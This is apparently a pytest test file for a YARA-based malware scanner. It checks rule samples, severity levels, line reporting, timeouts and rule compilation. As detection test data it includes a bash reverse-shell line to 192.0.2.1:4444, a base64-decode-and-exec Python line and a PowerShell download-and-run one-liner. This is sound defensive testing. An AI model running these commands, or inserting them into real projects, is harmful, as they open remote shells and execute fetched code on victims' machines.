import re
from pathlib import Path

import pytest
import yara_x

from scanner.analyzers.base import Kind, Severity
from scanner.analyzers.yara import RuleSetInvalid, YaraAnalyzer, compile_rules, digest
from scanner.analyzers.yara.metadata import describe
from scanner.analyzers.yara.rule_set import FOLDER, shipped

SAMPLES = Path(__file__).parent / "samples/yara"
HEAD = re.compile(r"^=== ([\w-]+) ([+-]) (\S+)\n", re.MULTILINE)
LETTERS = "QUJDREVGR0hJSktM" * 60


def samples(sign):
    """Rule, path and text of each sample; ``@@@@`` stands for a text too long to write down."""
    for file in sorted(SAMPLES.glob("*.samples")):
        _, *parts = HEAD.split(file.read_text())
        for rule, mark, path, text in zip(*[iter(parts)] * 4, strict=True):
            if mark == sign:
                yield pytest.param(rule, path, text.replace("@@@@", LETTERS), id=f"{rule}-{path}")


def rules_in(folder):
    return {each.rule for each in YaraAnalyzer().analyze(folder)}


def shipped_names():
    return {rule.identifier.replace("_", "-") for rule in shipped()}


@pytest.mark.parametrize(("rule", "path", "text"), list(samples("+")))
def test_a_rule_finds_what_it_was_written_for(tree, rule, path, text):
    assert f"yara.{rule}" in rules_in(tree({path: text}))


@pytest.mark.parametrize(("rule", "path", "text"), list(samples("-")))
def test_no_rule_of_a_threat_finds_what_only_looks_like_it(tree, rule, path, text):
    found = list(YaraAnalyzer().analyze(tree({path: text})))

    assert f"yara.{rule}" not in {each.rule for each in found}
    assert [each for each in found if each.severity is not Severity.INFO] == []


@pytest.mark.parametrize("sign", ["+", "-"])
def test_every_rule_has_its_samples(sign):
    assert {sample.values[0] for sample in samples(sign)} == shipped_names()


def test_every_rule_says_what_it_is_about():
    for rule in shipped():
        known = dict(rule.metadata)
        described = describe(rule)

        assert known["kind"] in {"capability", "threat"}
        assert described.rule.message.endswith(".")
        if described.is_threat:
            assert {"version", "level", "cwe", "attack", "remedy"} <= set(known)
            assert re.fullmatch(r"T\d{4}(\.\d{3})?", described.attack)


def test_the_line_is_that_of_the_first_match_whatever_the_file_is_called(tree):
    text = "one\ntwo\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"

    (finding,) = YaraAnalyzer().analyze(tree({"notes/readme.data": text}))

    assert (finding.path, finding.line) == ("notes/readme.data", 3)
    assert (finding.severity, finding.kind, finding.cwe) == (Severity.CRITICAL, Kind.MALICE, 506)
    assert finding.evidence == "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"


def test_a_threat_in_a_folder_of_tests_is_as_grave(tree):
    text = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"

    (finding,) = YaraAnalyzer().analyze(tree({"tests/run.sh": text}))

    assert finding.severity is Severity.CRITICAL


def test_padding_before_and_after_hides_nothing(tree):
    text = "x = 1\n" * 500_000 + "exec(base64.b64decode('cHJpbnQoMSk='))\n" + "y = 2\n" * 500_000

    assert "yara.python-runs-decoded" in rules_in(tree({"app.py": text}))


def test_a_capability_is_mentioned_once_and_its_files_are_listed(tree):
    analyzer = YaraAnalyzer()
    code = "subprocess.run(['ls'])\n"

    found = list(analyzer.analyze(tree({"a.py": code, "b.py": code})))

    assert [(each.rule, each.severity) for each in found] == [
        ("yara.starts-programs", Severity.INFO)
    ]
    assert analyzer.details["capabilities"] == {"starts-programs": ["a.py", "b.py"]}
    assert analyzer.details["rule_set"] == digest()


def test_a_draft_of_an_operator_scans_too(tree):
    draft = compile_rules('rule draft { strings: $a = "needle" condition: $a }')

    (finding,) = YaraAnalyzer(rules=draft).analyze(tree({"a.txt": "hay needle hay"}))

    assert (finding.rule, finding.severity) == ("yara.draft", Severity.LOW)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("rule a {\n  strings:\n    $a = /a\n  condition: $a\n}", 3),
        ("rule a {\n  condition:\n    $missing\n}", 3),
        ('include "/etc/passwd"', 1),
        ("rule a { condition: true }\nrule a { condition: true }", 2),
    ],
)
def test_a_draft_that_cannot_be_compiled_names_the_line(text, line):
    with pytest.raises(RuleSetInvalid) as refused:
        compile_rules(text)

    assert refused.value.line == line
    assert refused.value.reason


def test_rules_that_take_too_long_fail_instead_of_passing(tree):
    slow = compile_rules(
        "rule slow { condition: for all i in (0..100000000) : (uint8(i % 3) != 1) }"
    )

    with pytest.raises(TimeoutError, match=r"big\.bin"):
        list(YaraAnalyzer(rules=slow, timeout_seconds=1).analyze(tree({"big.bin": "abc" * 1000})))


def test_a_rule_with_a_level_that_does_not_exist_fails(tree):
    wrong = compile_rules('rule a { meta: level = "grave" condition: true }')

    with pytest.raises(ValueError, match="grave"):
        list(YaraAnalyzer(rules=wrong).analyze(tree({"a.txt": "a"})))


def test_the_digest_names_every_letter_of_the_rules():
    texts = "".join(path.read_text() for path in sorted(FOLDER.glob("*.yar")))

    assert re.fullmatch(r"[0-9a-f]{64}", digest())
    assert isinstance(compile_rules(texts), yara_x.Rules)


def test_what_documents_and_comments_tell_people_to_type_moves_no_level(tree):
    text = "iex ((New-Object System.Net.WebClient).DownloadString($url))\n"
    files = {"README.md": text, "ci.yml": f"run: |\n  # {text}", "a.py": text}
    files |= {".appveyor.yml": f"- ps: {text}", ".github/workflows/ci.yml": f"- run: {text}"}

    found = {each.path: each.severity for each in YaraAnalyzer().analyze(tree(files))}

    assert found == {
        "README.md": Severity.LOW,
        "ci.yml": Severity.LOW,
        ".appveyor.yml": Severity.MEDIUM,
        ".github/workflows/ci.yml": Severity.MEDIUM,
        "a.py": Severity.CRITICAL,
    }
